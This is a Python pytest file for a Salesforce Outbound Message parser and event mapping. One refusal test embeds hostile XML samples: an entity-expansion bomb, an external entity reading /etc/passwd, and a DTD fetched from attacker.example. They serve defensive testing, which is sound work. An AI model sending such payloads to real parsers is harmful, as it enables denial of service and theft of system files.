"""Salesforce Outbound Messages, pure parts: safe parsing (hostile XML refused) and the mapping."""

from __future__ import annotations

import pytest

from services.ingest.domain.problems import Problem
from services.ingest.domain.salesforce import SalesforceMapping, map_notification, map_notifications
from services.ingest.domain.salesforce_soap import ACK, EnvelopeRefused, fault, parse, same_organization

ORG = "00D000000000062EAA"


def envelope(*sobjects: tuple[str, str, str], org: str = ORG) -> bytes:
    notifications = "".join(
        f'<Notification><Id>{nid}</Id><sObject xsi:type="sf:{kind}" '
        f'xmlns:sf="urn:sobject.enterprise.soap.sforce.com">{fields}</sObject></Notification>'
        for nid, kind, fields in sobjects
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{org}</OrganizationId><ActionId>04k000000000001AAA</ActionId>"
        '<SessionId xsi:nil="true"/>'
        f"{notifications}</notifications></soapenv:Body></soapenv:Envelope>"
    ).encode()


def lead(status: str, extra: str = "") -> str:
    return (
        f"<sf:Id>00Q000000000001AAA</sf:Id><sf:Status>{status}</sf:Status>"
        f"<sf:LastModifiedDate>2026-05-01T09:00:00.000Z</sf:LastModifiedDate>{extra}"
    )


WON = (
    "<sf:Id>006000000000001AAA</sf:Id><sf:StageName>Closed Won</sf:StageName><sf:Amount>1200000.0</sf:Amount>"
    "<sf:ContactId>003000000000001AAA</sf:ContactId><sf:AccountId>001000000000001AAA</sf:AccountId>"
    "<sf:LastModifiedDate>2026-05-01T10:00:00.000Z</sf:LastModifiedDate>"
)


def test_an_outbound_message_is_parsed_and_mapped() -> None:
    message = parse(envelope(("04l1", "Lead", lead("Working - Contacted")), ("04l2", "Opportunity", WON)))
    assert message.organization_id == ORG
    mapping = SalesforceMapping()
    [accepted] = map_notification(message.notifications[0], mapping)
    assert accepted == {
        "event_id": "salesforce-04l1",
        "type": "lead_accepted",
        "occurred_at": "2026-05-01T09:00:00.000Z",
        "lead_id": "salesforce-00Q000000000001AAA",
        "anonymous_id": "salesforce-00Q000000000001AAA",
        "properties": {},
    }
    [won] = map_notification(message.notifications[1], mapping)
    assert won == {
        "event_id": "salesforce-04l2",
        "type": "opportunity_won",
        "occurred_at": "2026-05-01T10:00:00.000Z",
        "lead_id": "salesforce-003000000000001AAA",
        "account_id": "salesforce-001000000000001AAA",
        "properties": {"opportunity_id": "006000000000001AAA", "amount": "1200000.0"},
    }


def test_statuses_follow_the_mapping_and_conversion_links_the_contact() -> None:
    mapping = SalesforceMapping()
    [n] = parse(envelope(("04l1", "Lead", lead("Open - Not Contacted")))).notifications
    assert map_notification(n, mapping) == []
    [n] = parse(envelope(("04l1", "Lead", lead("Closed - Not Converted")))).notifications
    [event] = map_notification(n, mapping)
    assert isinstance(event, dict) and event["properties"] == {"reason": "Closed - Not Converted"}
    converted = lead("Closed - Converted", "<sf:ConvertedContactId>003X</sf:ConvertedContactId>")
    [n] = parse(envelope(("04l1", "Lead", converted))).notifications
    [link] = map_notification(n, mapping)
    assert isinstance(link, dict)
    assert (link["event_id"], link["type"], link["anonymous_id"], link["lead_id"]) == (
        "salesforce-04l1-converted",
        "identified",
        "salesforce-00Q000000000001AAA",
        "salesforce-003X",
    )


def test_a_notification_without_its_date_is_unmappable() -> None:
    [n] = parse(envelope(("04l1", "Lead", "<sf:Id>00Q1</sf:Id><sf:Status>x</sf:Status>"))).notifications
    assert map_notification(n, SalesforceMapping()) == [Problem("sObject.LastModifiedDate", "is required")]


def test_a_message_maps_notification_by_notification_and_each_event_remembers_its_notification() -> None:
    converted = lead("Working - Contacted", "<sf:ConvertedContactId>003X</sf:ConvertedContactId>")
    message = parse(
        envelope(
            ("04l1", "Lead", lead("Open - Not Contacted")),
            ("04l2", "Lead", "<sf:Id>00Q1</sf:Id>"),
            ("04l3", "Lead", converted),
            ("04l4", "Opportunity", WON),
        )
    )
    batch = map_notifications(message.notifications, SalesforceMapping())
    ids = [e["event_id"] for e in batch.events if isinstance(e, dict)]
    assert ids == ["salesforce-04l3", "salesforce-04l3-converted", "salesforce-04l4"]
    assert batch.origin == [2, 2, 3]
    assert (batch.ignored, batch.invalid) == (1, 1)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&lol3;</soapenv:Body>
</soapenv:Envelope>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&xxe;</soapenv:Body>
</soapenv:Envelope>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>"""


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (BILLION_LAUGHS, "DTDs and entities are not accepted"),
        (EXTERNAL_ENTITY, "DTDs and entities are not accepted"),
        (EXTERNAL_DTD, "DTDs and entities are not accepted"),
        (b"<soapenv:Envelope", "not well-formed"),
        (b"", "not well-formed"),
        (b"<a/>", "not a SOAP 1.1 envelope"),
        (envelope(), "no Notification"),
        (envelope(org=""), "OrganizationId is missing"),
    ],
)
def test_bad_or_hostile_envelopes_are_refused(body: bytes, reason: str) -> None:
    with pytest.raises(EnvelopeRefused, match=reason):
        parse(body)


def test_organization_ids_compare_on_their_15_character_form() -> None:
    assert same_organization(ORG, ORG[:15])
    assert same_organization(ORG[:15], ORG)
    assert not same_organization("00D000000000063EAA", ORG)
    assert not same_organization(ORG.lower(), ORG)


def test_ack_and_fault_are_soap() -> None:
    assert "<Ack>true</Ack>" in ACK
    assert "<faultstring>a &lt;b&gt;</faultstring>" in fault("Client", "a <b>")


@pytest.mark.parametrize(
    ("sent", "amount"),
    [
        ("1200000.0", "1200000.0"),  # below 10^7 Salesforce writes plain decimals: kept as sent
        ("1.5E7", "15000000"),
        ("9.999999999999999E15", "9999999999999999"),
        ("1.0E16", "10000000000000000"),  # plain, so validation refuses it as too large, not as malformed
        ("1E-2", "0.01"),
        ("INF", "INF"),
        ("1e999999999", "1e999999999"),  # never spelled out; validation refuses it
        ("n/a", "n/a"),
    ],
)
def test_an_amount_in_e_notation_becomes_a_plain_decimal(sent: str, amount: str) -> None:
    opportunity = WON.replace("<sf:Amount>1200000.0</sf:Amount>", f"<sf:Amount>{sent}</sf:Amount>")
    [n] = parse(envelope(("04l2", "Opportunity", opportunity))).notifications
    [won] = map_notification(n, SalesforceMapping())
    assert isinstance(won, dict) and won["properties"] == {"opportunity_id": "006000000000001AAA", "amount": amount}
